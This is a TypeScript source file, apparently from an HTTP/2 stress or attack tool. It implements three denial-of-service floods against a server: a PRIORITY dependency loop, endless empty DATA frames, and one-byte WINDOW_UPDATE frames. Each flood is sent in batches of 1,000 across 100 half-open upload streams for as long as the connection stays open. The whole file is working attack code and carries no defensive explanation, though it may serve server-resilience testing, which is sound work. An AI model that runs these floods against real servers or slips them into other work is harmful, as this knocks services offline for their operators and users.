import type { Attacker } from '../lib/attacker.ts'
import { encodeFrame, posting, Type, windowUpdate, word } from '../lib/frames.ts'
import { paths } from '../lib/paths.ts'

const batch = 1000
const streamCount = 100

type Make = (streamId: number, i: number) => Buffer

/** Frames about streams whose requests are incomplete, none of which changes anything. */
async function withoutEffect(attacker: Attacker, make: Make): Promise<void> {
  await attacker.http2(async (connection) => {
    const ids = Array.from({ length: streamCount }, () => connection.nextStream())
    await connection.send(Buffer.concat(ids.map((id) => posting(id, paths.upload))), 0)
    const frames = Array.from({ length: batch }, (_, i) => make(ids[i % streamCount]!, i))
    const bytes = Buffer.concat(frames)
    while (connection.isOpen) await connection.send(bytes, batch)
  })
}

/** Each stream depends on the one before, then on the one behind that, and so on (RFC 7540 §5.3.3). */
export function resourceLoop(attacker: Attacker): Promise<void> {
  return withoutEffect(attacker, (streamId, i) => {
    const parent = 1 + 2 * ((i * 7 + 1) % streamCount)
    const dependency = word(parent === streamId ? 0 : parent)
    return encodeFrame(Type.PRIORITY, 0, streamId, Buffer.concat([dependency, Buffer.of(i & 255)]))
  })
}

/** DATA without a byte, and without END_STREAM. */
export function emptyFrames(attacker: Attacker): Promise<void> {
  const none = Buffer.alloc(0)
  return withoutEffect(attacker, (streamId) => encodeFrame(Type.DATA, 0, streamId, none))
}

/** Windows that grow by a byte at a time, though the server has nothing to send. */
export function windowUpdates(attacker: Attacker): Promise<void> {
  return withoutEffect(attacker, (streamId) => windowUpdate(streamId, 1))
}
